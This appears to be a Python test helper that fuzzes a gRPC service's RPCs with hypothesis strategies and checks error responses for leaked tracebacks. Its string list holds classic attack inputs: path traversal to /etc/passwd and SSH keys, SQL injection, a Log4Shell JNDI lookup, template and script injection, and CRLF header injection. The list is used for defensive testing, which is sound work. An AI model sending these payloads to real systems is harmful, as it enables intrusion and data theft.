"""Hostile input for the property tests: every RPC of every service, read from the generated modules'
descriptors, and hypothesis strategies that build its request message field by field.

Strings lean towards what breaks servers (huge, NUL, CRLF, control characters, path traversal, SQL,
numbers in text); numbers sit at the edges of their wire type; enums take unknown numbers; repeated
fields get long. A new RPC or field is covered without touching this file.
"""

from __future__ import annotations

import base64
import importlib
import json
import pkgutil
import re
from collections.abc import Iterable
from dataclasses import dataclass
from typing import Any

from google.protobuf import descriptor, message
from google.protobuf.descriptor import FieldDescriptor
from google.rpc import error_details_pb2, status_pb2
from hypothesis import strategies as st

import wallwhale.v1

# ---- the RPCs ----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Rpc:
    service: descriptor.ServiceDescriptor
    method: descriptor.MethodDescriptor

    @property
    def path(self) -> str:
        return f"/{self.service.full_name}/{self.method.name}"

    @property
    def streaming(self) -> bool:
        return bool(self.method.server_streaming)

    @property
    def request_class(self) -> type[message.Message]:
        return _message_class(self.method.input_type)

    @property
    def response_class(self) -> type[message.Message]:
        return _message_class(self.method.output_type)

    def __str__(self) -> str:
        return f"{self.service.name}.{self.method.name}"


def _message_class(message_descriptor: descriptor.Descriptor) -> type[message.Message]:
    from google.protobuf import message_factory

    return message_factory.GetMessageClass(message_descriptor)


def all_rpcs() -> list[Rpc]:
    """Every method of every service in the generated wallwhale.v1 modules."""
    rpcs: list[Rpc] = []
    for module_info in pkgutil.iter_modules(wallwhale.v1.__path__):
        if not module_info.name.endswith("_pb2"):
            continue
        module = importlib.import_module(f"wallwhale.v1.{module_info.name}")
        for service in module.DESCRIPTOR.services_by_name.values():
            rpcs.extend(Rpc(service, method) for method in service.methods)
    return sorted(rpcs, key=str)


# ---- values ------------------------------------------------------------------------------------

INT32 = (-(2**31), -(2**31) + 1, -1, 0, 1, 2, 500, 501, 2**31 - 2, 2**31 - 1)
INT64 = (-(2**63), -(2**63) + 1, -(2**31) - 1, -1, 0, 1, 2**31, 2**53 + 1, 2**63 - 2, 2**63 - 1)
UINT32 = (0, 1, 2**31 - 1, 2**31, 2**32 - 1)
UINT64 = (0, 1, 431960, 2**31, 2**32, 2**53 + 1, 2**63 - 1, 2**63, 2**64 - 2, 2**64 - 1)

SPECIAL_STRINGS = (
    "",
    " ",
    "\t",
    "../../../../../../etc/passwd",
    "..%2F..%2F..%2Fetc%2Fpasswd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "/",
    ".",
    "..",
    "~root/.ssh/id_rsa",
    "C:\\Windows\\System32",
    "\\\\server\\share\\x",
    "file:///etc/passwd",
    "' OR 1=1 --",
    "'; DROP TABLE users; --",
    '" OR ""="',
    "1; SELECT pg_sleep(5)",
    "%' OR '%'='",
    "\x00",
    "a\x00b",
    "\r\n",
    'x\r\n{"event": "forged", "level": "critical"}',
    "\n\n\n",
    "\x1b[2J\x1b[31mred",
    "\x7f\x08\x0b\x0c",
    "\u202egnp.exe",
    "\ufeff\u200b\u2028\u2029",
    "\ud7ff\ue000\U0010ffff",
    "😀🐋",
    "\uff54\uff45\uff53\uff54",  # full-width "test"
    "İ",
    "%s%s%s%n",
    "{0.__class__}",
    "${jndi:ldap://example.invalid/x}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "NaN",
    "Infinity",
    "-1",
    "0",
    "1e400",
    "9223372036854775807",
    "9223372036854775808",
    "18446744073709551615",
    "18446744073709551616",
    "https://steamcommunity.com/sharedfiles/filedetails/?id=18446744073709551615",
    "https://steamcommunity.com/sharedfiles/filedetails/?id=9223372036854775808",
    "steam://url/CommunityFilePage/9223372036854775808",
    "steamcommunity.com/workshop/filedetails/?id=1&id=2",
    "http://[::1/",
    "admin:*",
    "download:*",
    "*",
    "admin@example.test",
    "ADMIN@EXAMPLE.TEST",
    "a@b",
    "@",
    "user@example.test\r\nBcc: x@example.test",
    "wwk_" + "A" * 43,
    "wwr_" + "A" * 43,
    "eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.",
)


def _forged_page_token(payload: str) -> str:
    return base64.urlsafe_b64encode(payload.encode()).decode().rstrip("=")


# Page tokens as a client could forge them: right shape, hostile contents.
FORGED_PAGE_TOKENS = (
    *(
        _forged_page_token(payload)
        for payload in (
            '{"o": Infinity, "f": "x"}',
            '{"o": -Infinity, "f": "x"}',
            '{"o": NaN, "f": "x"}',
            '{"o": 1e400, "f": "x"}',
            '{"o": 18446744073709551616, "f": "x"}',
            '{"o": -1, "f": "x"}',
            '{"o": "1", "f": "x"}',
            '{"o": [1], "f": "x"}',
            '{"o": {"a": 1}, "f": null}',
            '{"o": true, "f": 1}',
            "[1, 2]",
            '"text"',
            "null",
            "{",
            "\xff\xfe",
            "[" * 50_000,
        )
    ),
    "%%%",
    "====",
    "\x00",
    "a" * 10_000,
)

CONTROL = st.characters(codec="utf-8", categories=("Cc", "Cf", "Zl", "Zp", "Zs"))


def hostile_strings(known: Iterable[str] = ()) -> st.SearchStrategy[str]:
    """Strings for any string field; `known` are real ids and names that reach deeper code paths."""
    known = tuple(known)
    short = st.text(max_size=40)
    pieces = st.one_of(st.sampled_from(SPECIAL_STRINGS), short, st.text(CONTROL, max_size=8))
    options: list[st.SearchStrategy[str]] = [
        st.sampled_from(SPECIAL_STRINGS),
        short,
        st.text(CONTROL, min_size=1, max_size=20),
        st.lists(pieces, min_size=2, max_size=4).map("".join),
        # Huge: past every length check and the default gRPC metadata limits if echoed back.
        st.sampled_from((300, 2_049, 20_000, 300_000)).flatmap(
            lambda n: st.sampled_from(("A" * n, "../" * (n // 3), "é" * n, "\x00" * n, "\r\n" * (n // 2)))
        ),
    ]
    if known:
        known_strategy = st.sampled_from(known)
        options += [
            known_strategy,
            known_strategy,
            st.tuples(
                known_strategy, st.sampled_from(("/../..", "\x00", "\r\n", " ", "/archive", "%2F.."))
            ).map("".join),
        ]
    return st.one_of(*options)


def _ints(edges: tuple[int, ...], low: int, high: int) -> st.SearchStrategy[int]:
    return st.one_of(st.sampled_from(edges), st.integers(low, high))


_INT_STRATEGIES: dict[int, st.SearchStrategy[int]] = {
    FieldDescriptor.TYPE_INT32: _ints(INT32, -(2**31), 2**31 - 1),
    FieldDescriptor.TYPE_SINT32: _ints(INT32, -(2**31), 2**31 - 1),
    FieldDescriptor.TYPE_SFIXED32: _ints(INT32, -(2**31), 2**31 - 1),
    FieldDescriptor.TYPE_INT64: _ints(INT64, -(2**63), 2**63 - 1),
    FieldDescriptor.TYPE_SINT64: _ints(INT64, -(2**63), 2**63 - 1),
    FieldDescriptor.TYPE_SFIXED64: _ints(INT64, -(2**63), 2**63 - 1),
    FieldDescriptor.TYPE_UINT32: _ints(UINT32, 0, 2**32 - 1),
    FieldDescriptor.TYPE_FIXED32: _ints(UINT32, 0, 2**32 - 1),
    FieldDescriptor.TYPE_UINT64: _ints(UINT64, 0, 2**64 - 1),
    FieldDescriptor.TYPE_FIXED64: _ints(UINT64, 0, 2**64 - 1),
}


@dataclass
class Generator:
    """Builds request messages. `strings` serves every string field except the ones named in
    `by_name` (a field name -> its own strategy, e.g. page tokens)."""

    strings: st.SearchStrategy[str]
    by_name: dict[str, st.SearchStrategy[Any]]
    max_depth: int = 4

    def message(self, message_descriptor: descriptor.Descriptor, depth: int = 0) -> st.SearchStrategy[Any]:
        cls = _message_class(message_descriptor)
        if depth > self.max_depth:
            return st.builds(cls)
        fields: list[tuple[FieldDescriptor, st.SearchStrategy[Any]]] = []
        for field in message_descriptor.fields:
            if field.containing_oneof is not None and not field.containing_oneof.name.startswith("_"):
                continue  # real oneofs are drawn below, one member at a time
            fields.append((field, self._field(field, depth)))
        oneofs = [
            [(field, self._field(field, depth)) for field in oneof.fields]
            for oneof in message_descriptor.oneofs
            if not oneof.name.startswith("_")
        ]

        @st.composite
        def build(draw: st.DrawFn) -> message.Message:
            instance = cls()
            for field, strategy in fields:
                # Every field may be left at its default (or unset, for a field with presence).
                if draw(st.integers(0, 3)) == 0:
                    continue
                _assign(instance, field, draw(strategy))
            for members in oneofs:
                choice = draw(st.integers(-1, len(members) - 1))
                if choice >= 0:
                    field, strategy = members[choice]
                    _assign(instance, field, draw(strategy))
            return instance

        return build()

    def _field(self, field: FieldDescriptor, depth: int) -> st.SearchStrategy[Any]:
        if field.message_type is not None and field.message_type.GetOptions().map_entry:
            key = self._scalar(field.message_type.fields_by_name["key"], depth)
            value = self._single(field.message_type.fields_by_name["value"], depth)
            return st.dictionaries(key, value, max_size=4)
        single = self._single(field, depth)
        if field.is_repeated:
            long_list = st.sampled_from((100, 1_000, 20_000)).flatmap(
                lambda n: single.map(lambda value: [value] * n)
            )
            return st.one_of(st.lists(single, max_size=5), long_list)
        return single

    def _single(self, field: FieldDescriptor, depth: int) -> st.SearchStrategy[Any]:
        if field.name in self.by_name:
            return self.by_name[field.name]
        if field.message_type is not None:
            return self.message(field.message_type, depth + 1)
        return self._scalar(field, depth)

    def _scalar(self, field: FieldDescriptor, depth: int) -> st.SearchStrategy[Any]:
        kind = field.type
        if kind == FieldDescriptor.TYPE_STRING:
            return self.strings
        if kind == FieldDescriptor.TYPE_BYTES:
            return st.binary(max_size=64)
        if kind == FieldDescriptor.TYPE_BOOL:
            return st.booleans()
        if kind in (FieldDescriptor.TYPE_DOUBLE, FieldDescriptor.TYPE_FLOAT):
            return st.floats(width=64 if kind == FieldDescriptor.TYPE_DOUBLE else 32)
        if kind == FieldDescriptor.TYPE_ENUM:
            known = [value.number for value in field.enum_type.values]
            return st.one_of(st.sampled_from(known), _ints(INT32, -(2**31), 2**31 - 1))
        if kind in _INT_STRATEGIES:
            return _INT_STRATEGIES[kind]
        raise NotImplementedError(f"no strategy for {field.full_name} (type {kind})")


def _assign(instance: message.Message, field: FieldDescriptor, value: Any) -> None:
    if field.message_type is not None and field.message_type.GetOptions().map_entry:
        target = getattr(instance, field.name)
        for key, item in value.items():
            if isinstance(item, message.Message):
                target[key].CopyFrom(item)
            else:
                target[key] = item
    elif field.is_repeated:
        if field.message_type is not None:
            getattr(instance, field.name).extend(value)
        else:
            getattr(instance, field.name).extend(value)
    elif field.message_type is not None:
        getattr(instance, field.name).CopyFrom(value)
    else:
        setattr(instance, field.name, value)


# ---- what a refusal must look like ---------------------------------------------------------------

STATUS_DETAILS_KEY = "grpc-status-details-bin"
# What must never reach a client: a traceback, an exception's class name, a source file, a driver.
LEAKS = re.compile(
    r"Traceback|File \"|\.py\b|line \d+, in|\b[A-Z][A-Za-z]*(?:Error|Exception)\b|"
    r"sqlalchemy|psycopg|sqlite3?\b|asyncpg|site-packages|<frozen|\bself\.|0x[0-9a-f]{8,}",
)


def strings_in(value: Any) -> set[str]:
    """Every string inside a message (to tell an echo of the client's own input from a leak)."""
    found: set[str] = set()
    if isinstance(value, message.Message):
        for _, item in value.ListFields():
            found |= strings_in(item)
    elif isinstance(value, str):
        found.add(value)
    elif isinstance(value, dict) or hasattr(value, "items"):
        for key, item in value.items():
            found |= strings_in(key) | strings_in(item)
    elif isinstance(value, Iterable) and not isinstance(value, bytes):
        for item in value:
            found |= strings_in(item)
    return found


def leak_in(text: str, echoed: Iterable[str], forbidden: Iterable[str] = ()) -> str | None:
    """The first leak in `text` once the client's own input (`echoed`, as sent and as repr) is removed."""
    for value in sorted(echoed, key=len, reverse=True):
        if value:
            text = text.replace(value, " ").replace(repr(value)[1:-1], " ")
    for needle in forbidden:
        if needle and needle in text:
            return needle
    match = LEAKS.search(text)
    return match.group(0) if match else None


def decode_status(trailing: Iterable[tuple[str, Any]]) -> status_pb2.Status | None:
    for key, value in trailing:
        if key == STATUS_DETAILS_KEY:
            return status_pb2.Status.FromString(value)
    return None


def unpack_details(status: status_pb2.Status) -> list[message.Message]:
    kinds: list[type[message.Message]] = [
        error_details_pb2.ErrorInfo,
        error_details_pb2.BadRequest,
        error_details_pb2.ResourceInfo,
        error_details_pb2.QuotaFailure,
        error_details_pb2.RetryInfo,
        error_details_pb2.PreconditionFailure,
        error_details_pb2.DebugInfo,
        error_details_pb2.Help,
        error_details_pb2.LocalizedMessage,
        error_details_pb2.RequestInfo,
    ]
    unpacked: list[message.Message] = []
    for detail in status.details:
        for kind in kinds:
            if detail.Is(kind.DESCRIPTOR):
                item = kind()
                detail.Unpack(item)
                unpacked.append(item)
                break
        else:
            raise AssertionError(f"unknown detail type {detail.type_url}")
    return unpacked


def forged_json_bodies() -> st.SearchStrategy[Any]:
    """JSON values of any shape, strings hostile."""
    scalars = st.one_of(
        st.none(),
        st.booleans(),
        st.integers(-(2**70), 2**70),
        st.floats(allow_nan=False, allow_infinity=False),
        hostile_strings(),
    )
    return st.recursive(
        scalars,
        lambda children: st.one_of(
            st.lists(children, max_size=4),
            st.dictionaries(
                st.one_of(st.sampled_from(_JSON_NAMES), st.text(max_size=12)), children, max_size=5
            ),
        ),
        max_leaves=12,
    )


# Field names (lowerCamelCase, as Envoy's transcoder wants them) so forged bodies hit real fields.
_JSON_NAMES = (
    "id",
    "urlOrId",
    "appId",
    "priority",
    "requestId",
    "pageSize",
    "pageToken",
    "email",
    "password",
    "user",
    "apiKey",
    "scopes",
    "name",
    "limits",
    "expireTime",
    "steamAccount",
    "username",
    "refreshToken",
    "offset",
    "length",
    "updateMask",
    "states",
    "code",
)


def describe(request: message.Message) -> str:
    """A short text of a request for assertion messages (huge strings abbreviated)."""

    def short(value: Any) -> Any:
        if isinstance(value, str) and len(value) > 80:
            return f"{value[:40]!r}...({len(value)} chars)"
        if isinstance(value, list) and len(value) > 5:
            return [short(v) for v in value[:3]] + [f"...({len(value)} items)"]
        if isinstance(value, dict):
            return {k: short(v) for k, v in value.items()}
        return value

    from google.protobuf import json_format

    try:
        as_dict = json_format.MessageToDict(request, preserving_proto_field_name=True)
    except (json_format.Error, ValueError, TypeError):  # e.g. a Timestamp out of JSON's range
        return str(request)[:2000]
    return json.dumps(short(as_dict), ensure_ascii=True)[:3000]
